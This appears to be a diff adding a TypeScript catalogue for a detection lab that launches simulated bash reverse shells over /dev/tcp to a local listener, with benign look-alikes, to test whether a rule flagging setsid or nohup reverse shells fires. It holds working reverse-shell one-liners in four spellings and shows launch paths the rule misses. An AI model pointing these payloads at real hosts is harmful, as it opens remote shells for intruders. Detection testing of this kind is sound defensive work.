@@ -1,0 +1,142 @@
+/**
+ * The catalogue of simulated reverse shells and their benign look-alikes.
+ *
+ * Every payload is `bash -i` wired to a TCP connection to 127.0.0.1:<port>, where <port> is a
+ * listener the simulation opened itself; the listener answers `exit` and hangs up, so the shell
+ * ends at once and nothing leaves the host. Each payload ends in a `#<marker>` shell comment, so
+ * an alert can be tied to the variant from the command line it reports.
+ *
+ * The launcher shell runs the command followed by `; exit 0`: a shell given a single command
+ * execs it in place, and then setsid's parent would be the lab instead of the shell, which is not
+ * what happens when a person types the command at a prompt.
+ *
+ * Expectations are those of the rules bundled with execwarden: the seed rule "Potential Reverse
+ * Shell via Background Process" wants setsid or nohup, started by a shell, with `/dev/tcp/` and
+ * `0>&1` in its arguments.
+ */
+import { findExecutable } from './system-tools.js';
+
+export const SEED_RULE_ID = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
+
+/** What a variant gets to build its command line. */
+export interface LaunchTarget {
+  port: number;
+  marker: string;
+  /** Resolves a helper to an absolute path; the variant lists its helpers in `requires`. */
+  tool(name: string): string;
+  /** A scratch directory for this run (renamed copies of binaries live here). */
+  scratchDir: string;
+}
+
+export interface Launch {
+  file: string;
+  args: string[];
+  /** Files to copy into the scratch dir before launching: [source tool name, new file name]. */
+  copies?: Array<[string, string]>;
+}
+
+export interface LabVariant {
+  name: string;
+  summary: string;
+  /** Whether the bundled rules should raise an alert. */
+  expectAlert: boolean;
+  /** The rule that should fire (rule.id), when expectAlert. */
+  expectedRuleId: string | null;
+  /** Whether the payload opens a connection to the listener. */
+  connects: boolean;
+  /** Executables that must be installed (found on the system PATH); otherwise it is skipped. */
+  requires: string[];
+  launch(target: LaunchTarget): Launch;
+}
+
+/** The payload forms: how a bash one-liner ties its standard streams to /dev/tcp. */
+const PAYLOADS = {
+  'dup-both': (port: number) => `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
+  'stdout-redirect': (port: number) => `bash -i > /dev/tcp/127.0.0.1/${port} 0>&1 2>&1`,
+  'read-write': (port: number) => `bash -i 1<> /dev/tcp/127.0.0.1/${port} 0>&1 2>&1`,
+  'exec-fd': (port: number) => `exec 5<>/dev/tcp/127.0.0.1/${port}; bash -i >&5 0>&1 2>&1`,
+} as const;
+type PayloadForm = keyof typeof PAYLOADS;
+
+function payload(form: PayloadForm, target: LaunchTarget): string {
+  return `${PAYLOADS[form](target.port)} #${target.marker}`;
+}
+
+/** A launcher shell running `command; exit 0`, as if typed at that shell's prompt. */
+function fromShell(shell: string, command: (t: LaunchTarget) => string): (t: LaunchTarget) => Launch {
+  return (t) => ({ file: t.tool(shell), args: ['-c', `${command(t)}; exit 0`] });
+}
+
+const LAUNCHER_SHELLS = ['bash', 'sh', 'dash', 'zsh', 'ksh', 'mksh', 'fish', 'tcsh', 'csh'] as const;
+
+function reverseShell(name: string, summary: string, requires: string[], launch: (t: LaunchTarget) => Launch): LabVariant {
+  return { name, summary, expectAlert: true, expectedRuleId: SEED_RULE_ID, connects: true, requires, launch };
+}
+
+function benign(name: string, summary: string, connects: boolean, requires: string[], launch: (t: LaunchTarget) => Launch): LabVariant {
+  return { name, summary, expectAlert: false, expectedRuleId: null, connects, requires, launch };
+}
+
+function buildCatalogue(): LabVariant[] {
+  const variants: LabVariant[] = [];
+  for (const shell of LAUNCHER_SHELLS) {
+    for (const detacher of ['setsid', 'nohup'] as const) {
+      variants.push(
+        reverseShell(
+          `${shell}-${detacher}`,
+          `${shell} runs ${detacher} bash -c '<reverse shell>'`,
+          [shell, detacher, 'bash'],
+          fromShell(shell, (t) => `${detacher} bash -c '${payload('dup-both', t)}'`),
+        ),
+      );
+    }
+  }
+  variants.push(
+    reverseShell('bash-setsid-fork', "setsid -f (always forks) from bash", ['bash', 'setsid'],
+      fromShell('bash', (t) => `setsid -f bash -c '${payload('dup-both', t)}'`)),
+    reverseShell('bash-setsid-absolute', 'setsid called by absolute path', ['bash', 'setsid'],
+      fromShell('bash', (t) => `${t.tool('setsid')} bash -c '${payload('dup-both', t)}'`)),
+    reverseShell('bash-nohup-absolute', 'nohup called by absolute path', ['bash', 'nohup'],
+      fromShell('bash', (t) => `${t.tool('nohup')} bash -c '${payload('dup-both', t)}'`)),
+    reverseShell('bash-setsid-stdout-redirect', "'> /dev/tcp/… 0>&1 2>&1' spelling", ['bash', 'setsid'],
+      fromShell('bash', (t) => `setsid bash -c '${payload('stdout-redirect', t)}'`)),
+    reverseShell('bash-setsid-read-write', "'1<> /dev/tcp/… 0>&1' spelling", ['bash', 'setsid'],
+      fromShell('bash', (t) => `setsid bash -c '${payload('read-write', t)}'`)),
+    reverseShell('bash-nohup-exec-fd', "'exec 5<>/dev/tcp/…; bash -i >&5 0>&1' spelling", ['bash', 'nohup'],
+      fromShell('bash', (t) => `nohup bash -c '${payload('exec-fd', t)}'`)),
+
+    benign('benign-no-dev-tcp', "setsid bash -c 'echo … 0>&1': a redirect, no /dev/tcp", false, ['bash', 'setsid'],
+      fromShell('bash', (t) => `setsid bash -c 'echo lab 0>&1 >/dev/null #${t.marker}'`)),
+    benign('benign-no-stdin-dup', "setsid bash -c 'echo … >/dev/tcp/…': a TCP write, no 0>&1", true, ['bash', 'setsid'],
+      fromShell('bash', (t) => `setsid bash -c 'echo lab >/dev/tcp/127.0.0.1/${t.port} #${t.marker}'`)),
+    benign('benign-python-parent', 'the reverse shell started by python3, not by a shell', true, ['python3', 'setsid', 'bash'],
+      (t) => ({
+        file: t.tool('python3'),
+        args: ['-c', `import subprocess, sys; sys.exit(subprocess.call(["setsid", "bash", "-c", ${JSON.stringify(payload('dup-both', t))}]))`],
+      })),
+    benign('benign-node-parent', 'the reverse shell started by node, not by a shell', true, ['setsid', 'bash'],
+      (t) => ({ file: process.execPath, args: ['-e', nodeLauncher(payload('dup-both', t))] })),
+    benign('benign-renamed-setsid', 'a copy of setsid named lab-detach, from bash', true, ['bash', 'setsid'],
+      (t) => ({
+        copies: [['setsid', 'lab-detach']],
+        file: t.tool('bash'),
+        args: ['-c', `${t.scratchDir}/lab-detach bash -c '${payload('dup-both', t)}'; exit 0`],
+      })),
+  );
+  return variants;
+}
+
+function nodeLauncher(command: string): string {
+  return [
+    "const { spawnSync } = require('node:child_process');",
+    `const r = spawnSync('setsid', ['bash', '-c', ${JSON.stringify(command)}], { stdio: 'ignore' });`,
+    'process.exit(r.status ?? 1);',
+  ].join(' ');
+}
+
+export const LAB_VARIANTS: readonly LabVariant[] = Object.freeze(buildCatalogue());
+
+/** The tools of `variant` that are not installed; empty when it can run here. */
+export function missingTools(variant: LabVariant, find: (name: string) => string | null = findExecutable): string[] {
+  return variant.requires.filter((name) => find(name) === null);
+}
